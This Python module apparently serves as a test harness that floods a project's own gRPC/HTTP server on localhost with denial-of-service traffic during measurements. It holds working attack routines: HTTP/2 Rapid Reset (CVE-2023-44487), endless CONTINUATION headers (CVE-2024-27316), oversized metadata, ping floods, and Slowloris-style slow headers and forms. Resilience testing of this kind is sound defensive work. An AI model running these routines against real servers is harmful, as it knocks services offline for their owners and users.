"""Abuse of a server's ports by a stranger with a socket, below the contract and without a token.

``python -m fakes.wire_abuse KIND HOST:PORT`` goes on until its input ends, and prints how often it
did what it does. A process of its own: what it takes must not slow down whoever measures.
"""

from __future__ import annotations

import itertools
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager

from fakes.attack import PREFACE, StalledReader, call_headers, frame, header
from fakes.live_server import environment
from layert2v.v1 import artifacts_pb2

STRANGER = "127.0.0.2"  # others come from another address
CONNECTIONS = 300  # at a time
PATH = "/layert2v.v1.JobService/ListJobs"
HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 1, 3, 4, 6, 8, 9
MAX_FRAME = 16_384
PAUSE_S = 0.005  # of those that send without end: some 200 writes a second each


class Abuse:
    """One kind of abuse of one address, until ``ended`` is set; ``count`` tells how often."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self.ended = threading.Event()
        self.count = 0

    def run(self, kind: str) -> None:
        """Go on until the end."""
        KINDS[kind](self)

    def connect(self, first: bytes = b"") -> socket.socket:
        """Open a connection, and send something on it."""
        connection = socket.create_connection(self._address, 5, (STRANGER, 0))
        connection.sendall(first)
        return connection

    def hold(self, first: bytes, *, again: bool, drip: bytes = b"") -> None:
        """Hold many connections that begin like this, and open those anew that were ended.

        ``drip`` is sent one byte at a time on each of them.
        """
        letters = itertools.cycle(drip) if drip else None
        held: list[socket.socket] = []
        while not self.ended.wait(0.05):
            held = [each for each in held if _is_open(each)]
            while len(held) < CONNECTIONS and (again or self.count < CONNECTIONS):
                try:
                    held.append(self.connect(first))
                except OSError:
                    break
                held[-1].setblocking(False)
                self.count += 1
            if letters is not None:
                _send_each(held, bytes([next(letters)]))
        for each in held:
            each.close()

    def flood(self, first: bytes, next_bytes: Callable[[int], bytes]) -> None:
        """Send over a few connections without reading an answer; open them again when they end."""
        threads = [
            threading.Thread(target=self._flood_one, args=(first, next_bytes)) for _ in range(4)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _flood_one(self, first: bytes, next_bytes: Callable[[int], bytes]) -> None:
        while not self.ended.is_set():
            try:
                with self.connect(first) as connection:
                    for number in itertools.count():
                        connection.sendall(next_bytes(number))
                        self.count += 1
                        connection.setblocking(False)
                        _drop_input(connection)
                        connection.settimeout(5)
                        if self.ended.wait(PAUSE_S):
                            return
            except OSError:
                time.sleep(PAUSE_S)


def _is_open(connection: socket.socket) -> bool:
    """Tell if the server still holds a connection; close it where it does not."""
    try:
        if connection.recv(65536):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    connection.close()
    return False


def _drop_input(connection: socket.socket) -> None:
    try:
        while connection.recv(65536):
            pass
        raise ConnectionResetError
    except BlockingIOError:
        return


def _send_each(connections: list[socket.socket], data: bytes) -> None:
    for each in connections:
        try:
            each.send(data)
        except OSError:
            continue


def _silence(attack: Abuse) -> None:
    attack.hold(b"", again=True)


def _half_a_call(attack: Abuse) -> None:
    """Begin a call whose headers have no end."""
    attack.hold(PREFACE + frame(HEADERS, 0, 1, call_headers(PATH)), again=True)


def _drip(attack: Abuse) -> None:
    """Send the beginning of a connection a byte at a time."""
    attack.hold(b"", again=True, drip=PREFACE)


def _rapid_reset(attack: Abuse) -> None:
    """Start calls and take each back at once (CVE-2023-44487), 50 in a write."""
    head, error = call_headers(PATH), struct.pack(">I", 8)

    def calls(number: int) -> bytes:
        streams = range(100 * number + 1, 100 * number + 101, 2)
        return b"".join(frame(HEADERS, 4, s, head) + frame(RESET, 0, s, error) for s in streams)

    attack.flood(PREFACE, calls)


def _huge_metadata(attack: Abuse) -> None:
    """Start calls with more metadata than is allowed."""
    block = call_headers(PATH) + b"".join(header(f"x-{n}", "a" * 120) for n in range(250))
    first, rest = block[:MAX_FRAME], block[MAX_FRAME:]

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, 0, stream, first) + frame(CONTINUATION, 4, stream, rest)

    attack.flood(PREFACE, call)


def _endless_headers(attack: Abuse) -> None:
    """Go on with the headers of one call for ever (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, header("x", "a" * 100) * 100)
    attack.flood(PREFACE + frame(HEADERS, 0, 1, call_headers(PATH)), lambda _: more)


def _pings(attack: Abuse) -> None:
    """Ask for answers to pings and settings, and read none."""
    data = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"")) * 50
    attack.flood(PREFACE, lambda _: data)


def _unknown_callers(attack: Abuse) -> None:
    """Make whole calls with a wrong token, as fast as they are answered."""
    head = call_headers(PATH) + header("authorization", "Bearer wrong")
    body = frame(0, 1, 0, bytes(5))[9:]

    def calls(number: int) -> bytes:
        streams = range(20 * number + 1, 20 * number + 21, 2)
        return b"".join(frame(HEADERS, 4, s, head) + frame(0, 1, s, body) for s in streams)

    attack.flood(PREFACE, calls)


_FORM = b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4000\r\n"
_FORM += b"Content-Type: application/x-www-form-urlencoded\r\n\r\n"


def _page_silence(attack: Abuse) -> None:
    attack.hold(b"", again=True)


def _page_heads(attack: Abuse) -> None:
    """Send the head of a request a letter at a time."""
    attack.hold(b"GET /login HTTP/1.1\r\nHost: localhost\r\n", again=True, drip=b"X-A: aaaa\r\n")


def _page_forms(attack: Abuse) -> None:
    """Send the form of the log-in a letter at a time."""
    attack.hold(_FORM, again=True, drip=b"a")


def _page_unread(attack: Abuse) -> None:
    """Ask for the same file over and over, and read no answer."""
    ask = b"GET /static/page.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 400
    attack.hold(ask, again=True)


def _page_huge_heads(attack: Abuse) -> None:
    data = b"GET /login HTTP/1.1\r\nHost: localhost\r\n" + b"X-A: " + b"a" * 100_000
    attack.flood(b"", lambda _: data)


CALL_KINDS: dict[str, Callable[[Abuse], None]] = {
    "silent": _silence,
    "half-open": _half_a_call,
    "drip": _drip,
    "rapid-reset": _rapid_reset,
    "huge-metadata": _huge_metadata,
    "endless-headers": _endless_headers,
    "pings": _pings,
    "unknown-callers": _unknown_callers,
}
PAGE_KINDS: dict[str, Callable[[Abuse], None]] = {
    "page-silent": _page_silence,
    "page-heads": _page_heads,
    "page-forms": _page_forms,
    "page-unread": _page_unread,
    "page-huge-heads": _page_huge_heads,
}
KINDS = {**CALL_KINDS, **PAGE_KINDS}


@contextmanager
def abuse(kind: str, address: str, seconds: float) -> Iterator[None]:
    """Abuse an address from another process during the block, and for so long before its end."""
    command = [sys.executable, "-m", "fakes.wire_abuse", kind, address]
    with subprocess.Popen(
        command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=environment()
    ) as attacker:
        assert attacker.stdout is not None
        attacker.stdout.readline()  # it has begun
        yield
        time.sleep(seconds)
        count = attacker.communicate("")[0].strip()
    sys.stdout.write(f"{kind}: {count} times\n")
    assert attacker.returncode == 0
    assert int(count) > 0


@contextmanager
def slow_readers(address: str, artifact: str, token: str = "") -> Iterator[None]:
    """Start 900 reads of a file over three connections, and let none send anything."""
    host, _, port = address.rpartition(":")
    request = artifacts_pb2.ReadArtifactRequest(name=artifact).SerializeToString()
    with ExitStack() as stack:
        for _ in range(3):
            connection = stack.enter_context(socket.create_connection((host, int(port))))
            reader = StalledReader(connection)
            for _ in range(CONNECTIONS):
                reader.start("/layert2v.v1.ArtifactService/ReadArtifact", request, token)
        yield


def main() -> None:
    """Abuse an address until the input ends."""
    kind, address = sys.argv[1:]
    attack = Abuse(address)
    worker = threading.Thread(target=attack.run, args=(kind,))
    worker.start()
    sys.stdout.write("began\n")
    sys.stdout.flush()
    sys.stdin.read()
    attack.ended.set()
    worker.join()
    sys.stdout.write(f"{attack.count}\n")


if __name__ == "__main__":
    main()
